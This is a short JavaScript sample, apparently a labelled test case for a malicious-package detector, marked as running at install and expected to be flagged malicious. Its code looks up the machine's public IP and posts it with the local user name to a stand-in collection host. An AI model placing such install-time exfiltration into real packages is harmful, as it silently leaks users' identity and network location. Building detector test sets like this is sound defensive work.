// when: install
// expect: malicious
// The public IP asked from an IP-echo service, sent with the user name (company recon at install).
const os = require('os');
(async () => {
  const ip = (await (await fetch('https://api.ipify.example/?format=json')).json()).ip;
  await fetch('https://collect.recon-demo.example/r', { method: 'POST', body: JSON.stringify({ ip, u: os.userInfo().username }) });
})();
